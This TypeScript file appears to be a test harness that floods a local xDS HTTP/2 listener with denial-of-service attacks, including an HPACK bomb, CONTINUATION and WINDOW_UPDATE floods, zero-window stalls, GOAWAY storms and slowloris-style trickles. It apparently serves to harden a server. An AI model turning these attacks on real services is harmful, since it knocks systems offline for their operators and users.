// Run as a process of its own: PORT KIND MILLISECONDS. Attacks HTTP/2 and HPACK at the xDS listener at PORT of this
// machine, without credentials, until SIGTERM, or for the given time at most. Prints `attacking` at the start, and the
// number of ended connections so far four times a second. `flood-xds.ts` has the attacks by requests.
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import {
  data,
  emptyFrames,
  endStream,
  endlessHeaders,
  firstHeaders,
  frame,
  headersWith,
  hello,
  helloWithWindow,
  message,
  moreHeaders,
  plainFields,
  windowSettings,
  windowUpdate,
} from './http2-frames.ts';

const [portText, kind = '', millisecondsText] = process.argv.slice(2);
const [port, milliseconds] = [Number(portText), Number(millisecondsText)];

const ads = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources';
const reflection = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const secretType = 'type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret';
const subscriptionTo = (name: string): Buffer =>
  message(
    Buffer.concat([
      Buffer.from([0x12, secretType.length]),
      Buffer.from(secretType),
      Buffer.from([0x1a, name.length]),
      Buffer.from(name),
    ]),
  );
/** A client that subscribes again gets the resource again. */
const subscription = subscriptionTo('ALL');
/** Requests a file of protos. */
const symbol = 'envoy.service.discovery.v3.DiscoveryRequest';
const reflectionRequest = message(Buffer.concat([Buffer.from([0x22, symbol.length]), Buffer.from(symbol)]));

let cutOff = 0;
let isFirst = true;
function begun(): void {
  if (isFirst) console.log('attacking');
  isFirst = false;
}

interface Attack {
  readonly connections: number;
  /** The first bytes of each connection. */
  readonly first: Buffer;
  /** The bytes that follow, until there are none. `round` counts from 0. `undefined`: none. */
  readonly more?: (round: number) => Buffer;
  /** Time between two rounds, in ms. Default: the next turn of the event loop. */
  readonly pauseMs?: number;
  /** Sends a byte of `slowly` each 100 ms, in a circle. */
  readonly slowly?: Buffer;
  /** Ends the connection after the first bytes. */
  readonly leaves?: boolean;
}

function open(attack: Attack): void {
  const { first, more, pauseMs, slowly, leaves = false } = attack;
  const socket = connect(port, '127.0.0.1', () => {
    begun();
    if (leaves) socket.end(first);
    else socket.write(first);
    if (more !== undefined) flood(socket, more, pauseMs);
    if (slowly !== undefined) trickle(socket, slowly);
  });
  socket.resume();
  socket.on('error', () => undefined);
  socket.on('close', () => {
    cutOff += 1;
    setTimeout(open, 20, attack);
  });
}

function flood(socket: Socket, more: (round: number) => Buffer, pauseMs?: number): void {
  let round = 0;
  const write = (): void => {
    if (socket.destroyed) return;
    const bytes = more(round);
    if (bytes.length === 0) return;
    const accepted = socket.write(bytes);
    round += 1;
    if (!accepted) return;
    if (pauseMs === undefined) setImmediate(write);
    else setTimeout(write, pauseMs);
  };
  socket.on('drain', write);
  write();
}

function trickle(socket: Socket, bytes: Buffer): void {
  let sent = 0;
  const timer = setInterval(() => {
    socket.write(bytes.subarray(sent % bytes.length, (sent % bytes.length) + 1));
    sent += 1;
  }, 100);
  socket.on('close', () => clearInterval(timer));
}

const repeated = (bytes: Buffer, times: number): Buffer =>
  Buffer.concat(Array.from({ length: times }, () => bytes));

/** The same frames in each round. */
function same(bytes: Buffer, times = 1000): () => Buffer {
  const block = repeated(bytes, times);
  return () => block;
}

/** Frames of 500 further streams in each round. */
function streams(frames: (stream: number) => readonly Buffer[]): (round: number) => Buffer {
  return (round) =>
    Buffer.concat(Array.from({ length: 500 }, (_, index) => frames(3 + 2 * (round * 500 + index))).flat());
}

const nothing = Buffer.alloc(0);
const start = Buffer.concat([hello, firstHeaders(1, ads)]);
const odd = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);

/** A field whose entry nearly fills the HPACK table, and 12,000 references to it that stand for 3 KB each. */
const bomb = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('y'),
  Buffer.from([0x7f, 0x81, 0x17]),
  Buffer.alloc(3_072, 'y'),
  Buffer.alloc(12_000, 0xbe),
]);

/** Fields that are all added to the HPACK table, and replace each other. */
function churn(stream: number): Buffer {
  const fields = Array.from({ length: 100 }, (_, index) => {
    const value = `${stream}-${index}`.padEnd(60, 'z');
    return Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from('z'),
      Buffer.from([value.length]),
      Buffer.from(value),
    ]);
  });
  return headersWith(stream, ads, Buffer.concat(fields));
}

const oneByteFrames = Buffer.concat(Array.from(subscription, (byte) => data(1, Buffer.from([byte]))));

const attacks: Readonly<Record<string, Attack>> = {
  ...Object.fromEntries(
    Object.entries(emptyFrames).map(([name, bytes]) => [
      name,
      { connections: 4, first: start, more: same(bytes) },
    ]),
  ),
  'window-updates': { connections: 4, first: start, more: same(windowUpdate(0, 1)) },
  'stream-window-updates': { connections: 4, first: start, more: same(windowUpdate(1, 1)) },
  'endless-headers': {
    connections: 4,
    first: Buffer.concat([hello, endlessHeaders[0]]),
    more: same(endlessHeaders[1]),
  },
  'endless-header-list': {
    connections: 4,
    first: Buffer.concat([hello, endlessHeaders[0]]),
    more: same(frame('continuation', 0, 1, plainFields(20, 50)), 100),
  },
  'long-header-lists': {
    connections: 4,
    first: start,
    more: streams((stream) => [headersWith(stream, ads, plainFields(180, 50))]),
  },
  'hpack-bomb': {
    connections: 4,
    first: hello,
    more: streams((stream) => [headersWith(stream, ads, bomb)]),
  },
  'hpack-churn': { connections: 4, first: start, more: streams((stream) => [churn(stream)]) },
  'one-byte-frames': { connections: 4, first: start, more: same(oneByteFrames, 10) },
  // Each frame changes the windows of 250 streams, 32 times.
  'window-settings': {
    connections: 4,
    first: Buffer.concat([start, ...odd(250).slice(1).map(moreHeaders)]),
    more: same(windowSettings(...Array.from({ length: 32 }, (_, index) => 1_000 + index)), 100),
  },
  'one-byte-windows': {
    connections: 4,
    first: Buffer.concat([helloWithWindow(1), firstHeaders(1, ads), ...odd(100).slice(1).map(moreHeaders)]),
    more: () =>
      Buffer.concat(
        odd(100).flatMap((stream) => [data(stream, subscription), repeated(windowUpdate(stream, 1), 20)]),
      ),
  },
  'zero-windows': {
    connections: 4,
    first: Buffer.concat([helloWithWindow(0), firstHeaders(1, reflection), data(1, reflectionRequest)]),
    more: streams((stream) => [moreHeaders(stream), data(stream, repeated(reflectionRequest, 20))]),
  },
  'zero-windows-trust': {
    connections: 4,
    first: Buffer.concat([helloWithWindow(0), firstHeaders(1, ads), data(1, subscription)]),
    // As many streams as a connection may have, and no more.
    more: (round) =>
      round > 0
        ? nothing
        : Buffer.concat(
            odd(250)
              .slice(1)
              .flatMap((stream) => [moreHeaders(stream), data(stream, subscription)]),
          ),
  },
  // Each stream has room for the response that there is no `x`, which is short and newer than all others. So the second
  // response, which waits, cannot be one that another stream has: it is encoded for this stream alone.
  'hoarded-responses': {
    connections: 12,
    first: Buffer.concat([helloWithWindow(500), windowUpdate(0, 2 ** 30), firstHeaders(1, ads)]),
    more(round) {
      const stream = 3 + 2 * round;
      if (round >= 200) return nothing;
      return Buffer.concat([
        moreHeaders(stream),
        data(stream, subscriptionTo('x')),
        data(stream, subscription),
      ]);
    },
    pauseMs: 50,
  },
  'announced-4-gb': {
    connections: 4,
    first: start,
    more: streams((stream) => [moreHeaders(stream), data(stream, Buffer.from([0, 255, 255, 255, 255, 1]))]),
  },
  'data-after-end': {
    connections: 4,
    first: start,
    more: streams((stream) => [
      moreHeaders(stream),
      frame('data', endStream, stream, subscription),
      data(stream, subscription),
    ]),
  },
  goaways: {
    connections: 50,
    first: Buffer.concat([start, data(1, subscription), frame('goAway', 0, 0, Buffer.alloc(8))]),
    leaves: true,
  },
  'slow-preface': { connections: 1_000, first: hello.subarray(0, 3), slowly: hello.subarray(3) },
  'slow-headers': {
    connections: 1_000,
    // The header block has 10,000 bytes, which arrive one by one.
    first: Buffer.concat([hello, frame('headers', 4, 1, Buffer.alloc(10_000)).subarray(0, 9)]),
    slowly: Buffer.from([0x83]),
  },
  'slow-bodies': {
    connections: 1_000,
    first: Buffer.concat([hello, firstHeaders(1, ads), data(1, Buffer.alloc(10_000)).subarray(0, 9)]),
    // The beginning of a message of 10,000 bytes, and further bytes of it.
    slowly: Buffer.concat([Buffer.from([0, 0, 0, 0x27, 0x10]), Buffer.alloc(9_000)]),
  },
};

const attack = attacks[kind];
if (attack === undefined) throw new Error(`no attack ${kind}`);
for (let count = 0; count < attack.connections; count += 1) open(attack);
setInterval(() => console.log(`cut off ${cutOff} times`), 250);
process.on('SIGTERM', () => process.exit());
setTimeout(() => process.exit(), milliseconds);
